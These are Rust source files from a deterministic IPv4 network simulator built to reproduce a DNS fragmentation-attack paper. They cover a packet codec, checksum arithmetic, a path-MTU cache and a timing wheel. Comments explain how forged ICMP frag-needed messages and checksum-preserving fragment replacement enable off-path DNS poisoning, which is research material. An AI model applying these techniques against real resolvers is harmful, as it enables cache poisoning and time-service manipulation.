    pub protocol: u8,
    /// Don't-Fragment flag.
    pub dont_fragment: bool,
    /// More-Fragments flag: set on every fragment except the last.
    pub more_fragments: bool,
    /// Fragment offset in units of 8 bytes.
    pub frag_offset: u16,
    /// Payload bytes after the header.
    pub payload: Bytes,
}

// Packets move by value wire → stack → host (zero-clone delivery), so the
// struct rides every event: 40 B = 16 B of header scalars + the 24-B
// `Bytes` handle. Growth here fattens `EventKind` moves and the wheel's
// cascade memcpys — keep it a compile error.
const _: () = assert!(std::mem::size_of::<Ipv4Packet>() <= 40, "Ipv4Packet grew past 40 bytes");

impl Ipv4Packet {
    /// Builds an unfragmented UDP-carrying packet with default TTL 64.
    pub fn udp(src: Ipv4Addr, dst: Ipv4Addr, id: u16, payload: Bytes) -> Self {
        Ipv4Packet {
            src,
            dst,
            id,
            ttl: 64,
            protocol: PROTO_UDP,
            dont_fragment: false,
            more_fragments: false,
            frag_offset: 0,
            payload,
        }
    }

    /// Builds an unfragmented ICMP-carrying packet with default TTL 64.
    pub fn icmp(src: Ipv4Addr, dst: Ipv4Addr, id: u16, payload: Bytes) -> Self {
        Ipv4Packet { protocol: PROTO_ICMP, ..Ipv4Packet::udp(src, dst, id, payload) }
    }

    /// True if this packet is one fragment of a larger datagram.
    pub fn is_fragment(&self) -> bool {
        self.more_fragments || self.frag_offset != 0
    }

    /// True if this is the first (offset-zero) fragment of a fragmented
    /// datagram, the one carrying the transport header.
    pub fn is_first_fragment(&self) -> bool {
        self.more_fragments && self.frag_offset == 0
    }

    /// Total on-wire length: header plus payload.
    pub fn wire_len(&self) -> usize {
        IPV4_HEADER_LEN + self.payload.len()
    }

    /// Byte offset (not 8-byte units) of this fragment's payload within the
    /// original datagram's payload.
    pub fn payload_offset(&self) -> usize {
        usize::from(self.frag_offset) * 8
    }

    /// Encodes the packet to wire bytes with a correct header checksum.
    ///
    /// # Errors
    ///
    /// Returns [`WireError::Oversize`] if the total length exceeds 65 535
    /// bytes, or [`WireError::BadFragmentOffset`] if the fragment offset
    /// does not fit in 13 bits.
    pub fn encode(&self) -> Result<Bytes, WireError> {
        let total_len = IPV4_HEADER_LEN + self.payload.len();
        if total_len > usize::from(u16::MAX) {
            return Err(WireError::Oversize { len: total_len });
        }
        if self.frag_offset > 0x1FFF {
            return Err(WireError::BadFragmentOffset { offset: self.frag_offset });
        }
        let mut buf = BytesMut::with_capacity(total_len);
        buf.put_u8(0x45); // version 4, IHL 5
        buf.put_u8(0); // DSCP/ECN
        buf.put_u16(total_len as u16);
        buf.put_u16(self.id);
        let mut flags_frag = self.frag_offset & 0x1FFF;
        if self.dont_fragment {
            flags_frag |= 0x4000;
        }
        if self.more_fragments {
            flags_frag |= 0x2000;
        }
        buf.put_u16(flags_frag);
        buf.put_u8(self.ttl);
        buf.put_u8(self.protocol);
        buf.put_u16(0); // checksum placeholder
        buf.put_slice(&self.src.octets());
        buf.put_slice(&self.dst.octets());
        let ck = checksum::checksum(&buf[..IPV4_HEADER_LEN]);
        buf[10..12].copy_from_slice(&ck.to_be_bytes());
        buf.put_slice(&self.payload);
        Ok(buf.freeze())
    }

    /// Decodes a packet from wire bytes, verifying the header checksum.
    ///
    /// # Errors
    ///
    /// Returns [`WireError`] variants for truncated input, wrong version,
    /// unsupported options, bad checksum or a total-length mismatch.
    pub fn decode(data: &[u8]) -> Result<Ipv4Packet, WireError> {
        if data.len() < IPV4_HEADER_LEN {
            return Err(WireError::Truncated { needed: IPV4_HEADER_LEN, got: data.len() });
        }
        let version = data[0] >> 4;
        if version != 4 {
            return Err(WireError::BadVersion { version });
        }
        let ihl = usize::from(data[0] & 0x0F) * 4;
        if ihl != IPV4_HEADER_LEN {
            return Err(WireError::UnsupportedOptions { ihl });
        }
        if !checksum::verify(&data[..IPV4_HEADER_LEN]) {
            return Err(WireError::BadChecksum { layer: "ipv4" });
        }
        let total_len = usize::from(u16::from_be_bytes([data[2], data[3]]));
        if total_len < IPV4_HEADER_LEN || total_len > data.len() {
            return Err(WireError::LengthMismatch { declared: total_len, actual: data.len() });
        }
        let id = u16::from_be_bytes([data[4], data[5]]);
        let flags_frag = u16::from_be_bytes([data[6], data[7]]);
        let ttl = data[8];
        let protocol = data[9];
        let src = Ipv4Addr::new(data[12], data[13], data[14], data[15]);
        let dst = Ipv4Addr::new(data[16], data[17], data[18], data[19]);
        Ok(Ipv4Packet {
            src,
            dst,
            id,
            ttl,
            protocol,
            dont_fragment: flags_frag & 0x4000 != 0,
            more_fragments: flags_frag & 0x2000 != 0,
            frag_offset: flags_frag & 0x1FFF,
            payload: Bytes::copy_from_slice(&data[IPV4_HEADER_LEN..total_len]),
        })
    }
}

impl fmt::Display for Ipv4Packet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "IPv4 {} -> {} proto={} id={:#06x} off={} mf={} len={}",
            self.src,
            self.dst,
            self.protocol,
            self.id,
            self.frag_offset,
            self.more_fragments,
            self.wire_len()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Ipv4Packet {
        Ipv4Packet {
            src: Ipv4Addr::new(192, 0, 2, 1),
            dst: Ipv4Addr::new(198, 51, 100, 7),
            id: 0xBEEF,
            ttl: 64,
            protocol: PROTO_UDP,
            dont_fragment: true,
            more_fragments: false,
            frag_offset: 0,
            payload: Bytes::from_static(b"hello world"),
        }
    }

    #[test]
    fn encode_decode_round_trip() {
        let pkt = sample();
        let wire = pkt.encode().unwrap();
        let back = Ipv4Packet::decode(&wire).unwrap();
        assert_eq!(back, pkt);
    }

    #[test]
    fn header_checksum_is_valid_on_wire() {
        let wire = sample().encode().unwrap();
        assert!(checksum::verify(&wire[..IPV4_HEADER_LEN]));
    }

    #[test]
    fn decode_rejects_corrupted_header() {
        let wire = sample().encode().unwrap();
        let mut bad = wire.to_vec();
        bad[4] ^= 0xFF; // corrupt the IPID without fixing the checksum
        assert!(matches!(Ipv4Packet::decode(&bad), Err(WireError::BadChecksum { .. })));
    }

    #[test]
    fn decode_rejects_truncation() {
        let wire = sample().encode().unwrap();
        assert!(matches!(Ipv4Packet::decode(&wire[..10]), Err(WireError::Truncated { .. })));
    }

    #[test]
    fn fragment_flags_round_trip() {
        let mut pkt = sample();
        pkt.dont_fragment = false;
        pkt.more_fragments = true;
        pkt.frag_offset = 185; // 1480 bytes / 8
        let back = Ipv4Packet::decode(&pkt.encode().unwrap()).unwrap();
        assert!(back.more_fragments);
        assert_eq!(back.frag_offset, 185);
        assert_eq!(back.payload_offset(), 1480);
        assert!(back.is_fragment());
        assert!(!back.is_first_fragment());
    }

    #[test]
    fn oversize_offset_rejected() {
        let mut pkt = sample();
        pkt.frag_offset = 0x2000;
        assert!(matches!(pkt.encode(), Err(WireError::BadFragmentOffset { .. })));
    }

    #[test]
    fn trailing_link_padding_is_ignored() {
        let pkt = sample();
        let mut wire = pkt.encode().unwrap().to_vec();
        wire.extend_from_slice(&[0u8; 6]); // Ethernet-style padding
        let back = Ipv4Packet::decode(&wire).unwrap();
        assert_eq!(back.payload, pkt.payload);
    }
}
