//! RFC 1071 ones'-complement checksum arithmetic.
//!
//! The Internet checksum is central to the fragmentation attack of the
//! paper (§III-3): an off-path attacker who replaces the second fragment of
//! a UDP datagram must keep the ones'-complement sum of the replaced bytes
//! identical, because the UDP checksum field itself travels in the *first*
//! fragment which the attacker cannot touch. This module provides the sum,
//! the checksum, and the ones'-complement add/sub helpers used by the
//! fix-up ([`attack`-crate `ChecksumFixer`](https://example.org)).

/// Computes the ones'-complement sum (without final inversion) of `data`,
/// treating it as a sequence of big-endian 16-bit words. Odd trailing bytes
/// are padded with a zero byte, per RFC 1071.
///
/// ```
/// use netsim::checksum::ones_complement_sum;
///
/// // 0x0102 + 0x0304 = 0x0406
/// assert_eq!(ones_complement_sum(&[1, 2, 3, 4]), 0x0406);
/// ```
pub fn ones_complement_sum(data: &[u8]) -> u16 {
    // Eight bytes per step: one unaligned load and four 16-bit field adds
    // into a u64 accumulator, instead of a bounds-checked add per word.
    // This runs twice per simulated packet (encode and verify), so the
    // constant factor matters more than elegance. No overflow: each step
    // adds < 2^18, so even petabyte inputs stay far below 2^64.
    let mut sum: u64 = 0;
    let mut eights = data.chunks_exact(8);
    for chunk in &mut eights {
        let v = u64::from_be_bytes(chunk.try_into().expect("exact chunk"));
        sum += (v >> 48) + ((v >> 32) & 0xFFFF) + ((v >> 16) & 0xFFFF) + (v & 0xFFFF);
    }
    let mut words = eights.remainder().chunks_exact(2);
    for chunk in &mut words {
        sum += u64::from(u16::from_be_bytes([chunk[0], chunk[1]]));
    }
    if let [last] = words.remainder() {
        sum += u64::from(u16::from_be_bytes([*last, 0]));
    }
    fold_sum(sum)
}

/// Computes the Internet checksum of `data`: the bitwise complement of the
/// ones'-complement sum.
///
/// ```
/// use netsim::checksum::{checksum, verify};
///
/// let data = [0x45, 0x00, 0x00, 0x1c];
/// let ck = checksum(&data);
/// let mut with_ck = data.to_vec();
/// with_ck.extend_from_slice(&ck.to_be_bytes());
/// assert!(verify(&with_ck));
/// ```
pub fn checksum(data: &[u8]) -> u16 {
    !ones_complement_sum(data)
}

/// Verifies data whose checksum field is embedded in it: valid iff the
/// ones'-complement sum over everything (including the checksum) is `0xFFFF`.
pub fn verify(data: &[u8]) -> bool {
    ones_complement_sum(data) == 0xFFFF
}

/// Adds two values in ones'-complement arithmetic (end-around carry).
pub fn oc_add(a: u16, b: u16) -> u16 {
    fold(u32::from(a) + u32::from(b))
}

/// Subtracts `b` from `a` in ones'-complement arithmetic.
///
/// `oc_add(oc_sub(a, b), b) == a` holds for all `a`, `b` up to the usual
/// ones'-complement ambiguity between `0x0000` and `0xFFFF` (both represent
/// zero); this module canonicalises sums so the identity holds exactly for
/// the values produced by [`ones_complement_sum`].
pub fn oc_sub(a: u16, b: u16) -> u16 {
    oc_add(a, !b)
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    sum as u16
}

/// End-around-carry fold of a raw u64 accumulator of 16-bit word sums down
/// to a canonical 16-bit ones'-complement sum. Public so callers summing
/// fixed-shape words directly from registers (the UDP pseudo-header) can
/// skip staging them through a byte buffer.
#[inline]
pub fn fold_sum(mut sum: u64) -> u16 {
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    sum as u16
}

/// Incrementally updates a checksum after a 16-bit word changed from `old`
/// to `new` (RFC 1624 style). `ck` is the complemented checksum field value.
pub fn incremental_update(ck: u16, old: u16, new: u16) -> u16 {
    // ~C' = ~C + ~old + new  (all ones'-complement additions)
    !oc_add(oc_add(!ck, !old), new)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc1071_example() {
        // The classic example from RFC 1071 §3.
        let words: [u8; 8] = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(ones_complement_sum(&words), 0xddf2);
        assert_eq!(checksum(&words), !0xddf2);
    }

    #[test]
    fn odd_length_pads_with_zero() {
        assert_eq!(ones_complement_sum(&[0xAB]), ones_complement_sum(&[0xAB, 0x00]));
    }

    #[test]
    fn verify_detects_single_bit_flip() {
        let mut data = vec![0x12, 0x34, 0x56, 0x78, 0x00, 0x00];
        let ck = checksum(&data);
        data[4..6].copy_from_slice(&ck.to_be_bytes());
        assert!(verify(&data));
        data[0] ^= 0x01;
        assert!(!verify(&data));
    }

    #[test]
    fn oc_add_end_around_carry() {
        assert_eq!(oc_add(0xFFFF, 0x0001), 0x0001);
        assert_eq!(oc_add(0x8000, 0x8000), 0x0001);
    }

    #[test]
    fn oc_sub_inverts_oc_add() {
        for &(a, b) in
            &[(0x1234u16, 0x0FFFu16), (0xFFFE, 0x0001), (0x0001, 0xFFFE), (0xABCD, 0xABCD)]
        {
            let diff = oc_sub(a, b);
            let back = oc_add(diff, b);
            // In ones'-complement 0x0000 and 0xFFFF are both zero.
            let eq =
                back == a || (back == 0xFFFF && a == 0x0000) || (back == 0x0000 && a == 0xFFFF);
            assert!(eq, "a={a:#06x} b={b:#06x} diff={diff:#06x} back={back:#06x}");
        }
    }

    #[test]
    fn incremental_update_matches_recompute() {
        let mut data = vec![0u8; 12];
        for (i, b) in data.iter_mut().enumerate() {
            *b = (i * 37 + 11) as u8;
        }
        let ck = checksum(&data);
        let old = u16::from_be_bytes([data[4], data[5]]);
        let new: u16 = 0xBEEF;
        data[4..6].copy_from_slice(&new.to_be_bytes());
        let updated = incremental_update(ck, old, new);
        let recomputed = checksum(&data);
        // Equal up to the ones'-complement zero ambiguity.
        assert!(
            updated == recomputed
                || (updated == 0x0000 && recomputed == 0xFFFF)
                || (updated == 0xFFFF && recomputed == 0x0000)
        );
    }
}
