//! Per-destination path-MTU cache, updated by ICMP fragmentation-needed.
//!
//! A forged ICMP frag-needed message (paper §III-1) plants a small MTU here;
//! subsequent large UDP sends to that destination are then fragmented by the
//! sending stack — which is precisely what makes the DNS response
//! fragment-replaceable.

use std::net::Ipv4Addr;

use crate::fasthash::FastMap;
use crate::os::PmtudPolicy;
use crate::time::SimTime;

#[derive(Debug, Clone, Copy)]
struct PmtuEntry {
    mtu: u16,
    expires: SimTime,
}

/// Cache of learned path MTUs keyed by destination address.
#[derive(Debug, Default)]
pub struct PmtuCache {
    entries: FastMap<Ipv4Addr, PmtuEntry>,
}

impl PmtuCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        PmtuCache::default()
    }

    /// Processes an ICMP frag-needed claiming `claimed_mtu` towards `dst`,
    /// under `policy`. Returns the MTU actually recorded, if any.
    ///
    /// Claims below the policy's minimum are **clamped up** to the minimum
    /// (Linux `min_pmtu` semantics) rather than ignored: the host still
    /// fragments, but never to fragments smaller than its floor. This is
    /// what produces the "minimum fragment size emitted" distribution in
    /// Fig. 5 of the paper.
    pub fn on_frag_needed(
        &mut self,
        now: SimTime,
        dst: Ipv4Addr,
        claimed_mtu: u16,
        policy: &PmtudPolicy,
    ) -> Option<u16> {
        if !policy.honour_icmp {
            return None;
        }
        let mtu = claimed_mtu.max(policy.min_accepted_mtu);
        let expires = now + policy.cache_lifetime;
        let entry = self.entries.entry(dst).or_insert(PmtuEntry { mtu, expires });
        // Only ever lower the recorded MTU within its lifetime.
        if mtu < entry.mtu || entry.expires <= now {
            *entry = PmtuEntry { mtu, expires };
        } else {
            entry.expires = expires;
        }
        Some(entry.mtu)
    }

    /// Returns the effective MTU towards `dst`: the cached value if fresh,
    /// else `interface_mtu`.
    pub fn mtu_towards(&mut self, now: SimTime, dst: Ipv4Addr, interface_mtu: u16) -> u16 {
        // Hosts that never received a frag-needed skip the hash entirely —
        // this runs once per UDP send on the simulator's hot path.
        if self.entries.is_empty() {
            return interface_mtu;
        }
        match self.entries.get(&dst) {
            Some(entry) if entry.expires > now => entry.mtu.min(interface_mtu),
            Some(_) => {
                self.entries.remove(&dst);
                interface_mtu
            }
            None => interface_mtu,
        }
    }

    /// Number of destinations with a cached path MTU.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if no path MTUs are cached.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    const DST: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 5);

    #[test]
    fn frag_needed_lowers_mtu() {
        let mut cache = PmtuCache::new();
        let policy = PmtudPolicy::honour_down_to(548);
        assert_eq!(cache.mtu_towards(SimTime::ZERO, DST, 1500), 1500);
        let recorded = cache.on_frag_needed(SimTime::ZERO, DST, 600, &policy);
        assert_eq!(recorded, Some(600));
        assert_eq!(cache.mtu_towards(SimTime::ZERO, DST, 1500), 600);
    }

    #[test]
    fn claims_below_floor_are_clamped() {
        let mut cache = PmtuCache::new();
        let policy = PmtudPolicy::honour_down_to(548);
        let recorded = cache.on_frag_needed(SimTime::ZERO, DST, 68, &policy);
        assert_eq!(recorded, Some(548));
    }

    #[test]
    fn ignoring_policy_records_nothing() {
        let mut cache = PmtuCache::new();
        let policy = PmtudPolicy::ignore();
        assert_eq!(cache.on_frag_needed(SimTime::ZERO, DST, 296, &policy), None);
        assert_eq!(cache.mtu_towards(SimTime::ZERO, DST, 1500), 1500);
        assert!(cache.is_empty());
    }

    #[test]
    fn entries_expire() {
        let mut cache = PmtuCache::new();
        let policy = PmtudPolicy::honour_down_to(548);
        cache.on_frag_needed(SimTime::ZERO, DST, 600, &policy);
        let later = SimTime::ZERO + SimDuration::from_secs(601);
        assert_eq!(cache.mtu_towards(later, DST, 1500), 1500);
    }

    #[test]
    fn mtu_only_lowers_within_lifetime() {
        let mut cache = PmtuCache::new();
        let policy = PmtudPolicy::honour_down_to(296);
        cache.on_frag_needed(SimTime::ZERO, DST, 400, &policy);
        // A later, larger claim must not raise the cached value.
        cache.on_frag_needed(SimTime::ZERO, DST, 1200, &policy);
        assert_eq!(cache.mtu_towards(SimTime::ZERO, DST, 1500), 400);
        // A smaller claim lowers it further.
        cache.on_frag_needed(SimTime::ZERO, DST, 296, &policy);
        assert_eq!(cache.mtu_towards(SimTime::ZERO, DST, 1500), 296);
    }
}
