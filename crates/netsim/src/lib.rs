//! # netsim — byte-accurate IPv4 network simulation
//!
//! A deterministic discrete-event simulator carrying **real encoded
//! IPv4/UDP/ICMP bytes**, built as the substrate for reproducing
//! *"The Impact of DNS Insecurity on Time"* (DSN 2020). The attack studied
//! there lives below DNS: IPv4 fragmentation, defragmentation-cache
//! poisoning, path-MTU discovery abuse and ones'-complement checksum
//! fix-ups. Those mechanics only reproduce faithfully at wire level, so this
//! crate models them at wire level:
//!
//! * [`ipv4`] / [`udp`] / [`icmp`] — wire codecs with real checksums;
//! * [`frag`] — RFC 791 fragmentation and a receiver-side reassembly cache
//!   with per-OS timeouts and caps ([`frag::DefragCache`]);
//! * [`pmtu`] — per-destination path-MTU caches fed by ICMP frag-needed;
//! * [`os`] — OS stack profiles (Linux, Windows, filtering resolvers…);
//! * [`link`] — latency/jitter/loss link models;
//! * [`sim`] — the event loop, [`sim::Host`] trait and per-host
//!   [`sim::NetStack`];
//! * [`wheel`] — the hierarchical timing wheel backing the event loop
//!   (O(1) schedule/pop in heap `(time, sequence)` order).
//!
//! ## Quickstart
//!
//! ```
//! use bytes::Bytes;
//! use netsim::prelude::*;
//!
//! struct Hello { peer: std::net::Ipv4Addr }
//! impl Host for Hello {
//!     fn on_start(&mut self, ctx: &mut Ctx<'_>) {
//!         ctx.send_udp(self.peer, 4000, 4000, Bytes::from_static(b"hi"));
//!     }
//! }
//! struct Counter { n: usize }
//! impl Host for Counter {
//!     fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, _d: &Datagram) { self.n += 1; }
//! }
//!
//! let mut sim = Simulator::new(42);
//! let a = "10.0.0.1".parse()?;
//! let b = "10.0.0.2".parse()?;
//! sim.add_host(a, OsProfile::linux(), Box::new(Hello { peer: b }))?;
//! sim.add_host(b, OsProfile::linux(), Box::new(Counter { n: 0 }))?;
//! sim.run_for(SimDuration::from_secs(1));
//! assert_eq!(sim.host::<Counter>(b).unwrap().n, 1);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![warn(missing_docs)]

pub mod checksum;
pub mod drop;
pub mod error;
pub mod fasthash;
pub mod frag;
pub mod icmp;
pub mod ipv4;
pub mod link;
pub mod os;
pub mod pmtu;
pub mod sim;
pub mod time;
pub mod udp;
pub mod wheel;

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::drop::{DropCounts, DropReason};
    pub use crate::error::{FragmentError, SimError, WireError};
    pub use crate::frag::{
        fragment, DefragCache, DefragConfig, DuplicatePolicy, FragInsert, FragKey,
    };
    pub use crate::icmp::IcmpMessage;
    pub use crate::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, MIN_IPV4_MTU, PROTO_ICMP, PROTO_UDP};
    pub use crate::link::{LinkSpec, Topology};
    pub use crate::os::{IpidMode, OsProfile, PmtudPolicy, DEFAULT_IPID_CACHE_CAP};
    pub use crate::sim::{
        hot_struct_sizes, Ctx, Datagram, Host, HostId, NetStack, ReceiveOutcome, SimStats,
        Simulator, StackOutput, TimerToken,
    };
    pub use crate::time::{SimDuration, SimTime};
    pub use crate::udp::{UdpDatagram, UDP_HEADER_LEN};
}
