//! A hierarchical timing wheel (calendar queue) for the event loop.
//!
//! The simulator schedules millions of events whose firing times cluster a
//! few link latencies ahead of the clock. A binary heap charges O(log n)
//! comparisons — and `Event`-sized memmoves — per operation; the wheel
//! buckets events by time instead and charges O(1) amortised per
//! schedule/pop:
//!
//! * time is quantised into **ticks** of 2^[`TICK_SHIFT`] ns (≈ 1.05 ms —
//!   so every event within ~67 ms of the cursor, i.e. any ordinary link
//!   latency, files directly into level 0 and never cascades);
//! * `LEVELS` (6) wheel levels of `SLOTS` (64) slots each cover ticks near the
//!   cursor at 1-tick resolution (level 0) and exponentially coarser
//!   resolution above (level *L* spans 64^*L* ticks per slot);
//! * events beyond the wheel horizon (2^36 ticks ≈ 2.3 simulated years) go
//!   to an **overflow** heap and migrate into the wheel when the cursor
//!   reaches their epoch;
//! * a per-level occupancy bitmap (one `u64` per level) lets the cursor
//!   jump straight to the next populated slot, so empty stretches of
//!   simulated time cost nothing.
//!
//! **Ordering contract:** pops come out in exactly the total order the
//! simulator's old `BinaryHeap` used — ascending `(at, seq)`, where `seq`
//! is the schedule-call counter. Events sharing a tick are kept sorted in
//! the `ready` run; coarser slots re-sort on cascade. The differential
//! property test (`tests/wheel_vs_heap.rs`) pins this equivalence against
//! a reference heap over arbitrary interleaved schedule/pop sequences.
// simlint: hot-path — schedule/pop run once per simulated event; steady
// state must stay free of heap traffic.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, VecDeque};

use crate::time::SimTime;

/// Log2 of the tick length in nanoseconds (2^20 ns ≈ 1.05 ms per tick).
pub const TICK_SHIFT: u32 = 20;
/// Log2 of the slot count per level.
const SLOT_BITS: u32 = 6;
/// Slots per wheel level.
const SLOTS: usize = 1 << SLOT_BITS;
/// Wheel levels; together they cover `SLOT_BITS * LEVELS` = 36 tick bits.
const LEVELS: usize = 6;
/// Tick bits covered by the wheel; beyond this events overflow to a heap.
const WHEEL_BITS: u32 = SLOT_BITS * LEVELS as u32;

/// The tick a given instant falls into.
fn tick_of(at: SimTime) -> u64 {
    at.as_nanos() >> TICK_SHIFT
}

#[derive(Debug)]
struct Entry<T> {
    at: SimTime,
    seq: u64,
    value: T,
}

/// Overflow wrapper ordering entries by `(at, seq)` only (min via
/// `Reverse`). `seq` is unique, so the order is total.
#[derive(Debug)]
struct OverflowEntry<T>(Entry<T>);

impl<T> PartialEq for OverflowEntry<T> {
    fn eq(&self, other: &Self) -> bool {
        (self.0.at, self.0.seq) == (other.0.at, other.0.seq)
    }
}
impl<T> Eq for OverflowEntry<T> {}
impl<T> PartialOrd for OverflowEntry<T> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<T> Ord for OverflowEntry<T> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.0.at, self.0.seq).cmp(&(other.0.at, other.0.seq))
    }
}

#[derive(Debug)]
struct Level<T> {
    slots: [Vec<Entry<T>>; SLOTS],
    /// Bit *s* set ⇔ `slots[s]` is non-empty.
    occupied: u64,
}

impl<T> Level<T> {
    fn new() -> Self {
        // simlint: allow(hot-alloc) — empty slot rings, built once per
        // simulator; slot storage is retained and reused across pops.
        Level { slots: std::array::from_fn(|_| Vec::new()), occupied: 0 }
    }
}

/// A monotonic-time priority queue with the heap's `(at, seq)` total order
/// and O(1) amortised operations.
///
/// `schedule` assigns each event the next sequence number; `pop` returns
/// events in ascending `(at, seq)`. Instants at or before the latest
/// popped tick are accepted (they join the current ready run in exact
/// order), so the structure is a drop-in heap replacement even for
/// schedule-in-the-past call patterns.
#[derive(Debug)]
pub struct TimingWheel<T> {
    /// Tick of the ready run; slots strictly ahead of it hold the future.
    cursor: u64,
    /// Events of the cursor tick (plus any scheduled into the past),
    /// sorted ascending by `(at, seq)` and popped from the front.
    ready: VecDeque<Entry<T>>,
    levels: Box<[Level<T>; LEVELS]>,
    /// Events beyond the wheel horizon, ordered by `(at, seq)`.
    overflow: BinaryHeap<Reverse<OverflowEntry<T>>>,
    seq: u64,
    len: usize,
}

impl<T> Default for TimingWheel<T> {
    fn default() -> Self {
        TimingWheel::new()
    }
}

impl<T> TimingWheel<T> {
    /// An empty wheel with its cursor at the origin.
    pub fn new() -> Self {
        TimingWheel {
            cursor: 0,
            ready: VecDeque::new(),
            // simlint: allow(hot-alloc) — cold constructor: the level array
            // is boxed once so the wheel value itself stays register-sized.
            levels: Box::new(std::array::from_fn(|_| Level::new())),
            overflow: BinaryHeap::new(),
            seq: 0,
            len: 0,
        }
    }

    /// Queued events.
    pub fn len(&self) -> usize {
        self.len
    }

    /// True when nothing is queued.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Schedules `value` at `at`, after everything already scheduled for
    /// the same instant.
    pub fn schedule(&mut self, at: SimTime, value: T) {
        let seq = self.seq;
        self.seq += 1;
        self.insert(Entry { at, seq, value });
        self.len += 1;
    }

    /// The instant of the next event, without removing it. (Takes `&mut`:
    /// finding the next event may advance the cursor and cascade slots,
    /// which changes layout but never order.)
    pub fn peek(&mut self) -> Option<SimTime> {
        if self.ready.is_empty() {
            self.prime();
        }
        self.ready.front().map(|e| e.at)
    }

    /// Removes and returns the next event in `(at, seq)` order.
    pub fn pop(&mut self) -> Option<(SimTime, T)> {
        if self.ready.is_empty() {
            self.prime();
        }
        let entry = self.ready.pop_front()?;
        self.len -= 1;
        Some((entry.at, entry.value))
    }

    /// Drains the entire front run of events sharing the earliest queued
    /// instant — at most `limit` of them — appending their values to `out`
    /// in `(at, seq)` order, and returns that instant. Returns `None`
    /// (draining nothing) when the queue is empty, the earliest instant is
    /// past `deadline`, or `limit` is 0.
    ///
    /// Why a same-instant run may be drained wholesale: an entry sits in
    /// `ready` exactly when its tick is at or behind the cursor, and
    /// `prime` exposes a whole level-0 slot (one
    /// tick) at a time — so the moment an instant surfaces, *every* queued
    /// entry with that instant is already in the sorted ready run, and the
    /// run is maximal. Anything scheduled while the caller dispatches the
    /// drained run gets a later sequence number (and a non-earlier
    /// instant, under a monotonic clock), so it sorts strictly after the
    /// run — batch dispatch preserves the exact `(at, seq)` total order.
    pub fn pop_run_into(
        &mut self,
        deadline: SimTime,
        limit: usize,
        out: &mut Vec<T>,
    ) -> Option<SimTime> {
        if limit == 0 {
            return None;
        }
        let at = self.peek()?;
        if at > deadline {
            return None;
        }
        let mut taken = 0;
        while taken < limit {
            match self.ready.front() {
                Some(e) if e.at == at => {
                    let entry = self.ready.pop_front().expect("front checked");
                    out.push(entry.value);
                    taken += 1;
                }
                _ => break,
            }
        }
        self.len -= taken;
        Some(at)
    }

    /// Files an entry into the ready run, a wheel slot, or the overflow.
    fn insert(&mut self, entry: Entry<T>) {
        let t = tick_of(entry.at);
        if t <= self.cursor {
            // Current tick (or the past): join the sorted ready run at the
            // exact `(at, seq)` position.
            let key = (entry.at, entry.seq);
            let pos = self.ready.partition_point(|e| (e.at, e.seq) < key);
            self.ready.insert(pos, entry);
            return;
        }
        // The highest bit where `t` differs from the cursor picks the
        // level; the level's 6-bit field of `t` picks the slot.
        let diff = t ^ self.cursor;
        let level = ((63 - diff.leading_zeros()) / SLOT_BITS) as usize;
        if level >= LEVELS {
            self.overflow.push(Reverse(OverflowEntry(entry)));
            return;
        }
        let slot = ((t >> (level as u32 * SLOT_BITS)) & (SLOTS as u64 - 1)) as usize;
        let lvl = &mut self.levels[level];
        lvl.slots[slot].push(entry);
        lvl.occupied |= 1 << slot;
    }

    /// Advances the cursor to the next populated tick and fills `ready`
    /// with it (sorted). No-op when nothing is queued.
    fn prime(&mut self) {
        loop {
            if !self.ready.is_empty() {
                return;
            }
            // Find the nearest populated slot, lowest level first. Slots at
            // or below the cursor's own index are empty by construction, so
            // the bitmap scan only looks ahead.
            let mut cascaded = false;
            for level in 0..LEVELS {
                let unit = level as u32 * SLOT_BITS;
                let idx = ((self.cursor >> unit) & (SLOTS as u64 - 1)) as u32;
                let ahead_mask = if idx + 1 >= 64 { 0 } else { !0u64 << (idx + 1) };
                let ahead = self.levels[level].occupied & ahead_mask;
                if ahead == 0 {
                    continue;
                }
                let slot = ahead.trailing_zeros() as u64;
                let lvl = &mut self.levels[level];
                let mut entries = std::mem::take(&mut lvl.slots[slot as usize]);
                lvl.occupied &= !(1u64 << slot);
                // Jump the cursor to the slot's base tick (lower fields 0).
                let width = unit + SLOT_BITS;
                self.cursor = (self.cursor & !((1u64 << width) - 1)) | (slot << unit);
                if level == 0 {
                    // A level-0 slot is exactly one tick: sort and expose
                    // (the drained Vec goes back so its capacity is reused).
                    entries.sort_unstable_by_key(|e| (e.at, e.seq));
                    self.ready.extend(entries.drain(..));
                    self.levels[0].slots[slot as usize] = entries;
                    return;
                }
                // Coarser slot: cascade its entries towards level 0
                // (entries at exactly the new cursor tick land in `ready`).
                for entry in entries.drain(..) {
                    self.insert(entry);
                }
                self.levels[level].slots[slot as usize] = entries; // reuse the allocation
                cascaded = true;
                break;
            }
            if cascaded {
                continue;
            }
            // Wheel empty: enter the overflow epoch of the earliest entry
            // and pull in everything that now fits under the horizon.
            let Some(Reverse(OverflowEntry(first))) = self.overflow.pop() else {
                return;
            };
            self.cursor = tick_of(first.at);
            self.insert(first); // tick == cursor, so this lands in `ready`
            while let Some(Reverse(OverflowEntry(e))) = self.overflow.peek() {
                if (tick_of(e.at) ^ self.cursor) >> WHEEL_BITS != 0 {
                    break;
                }
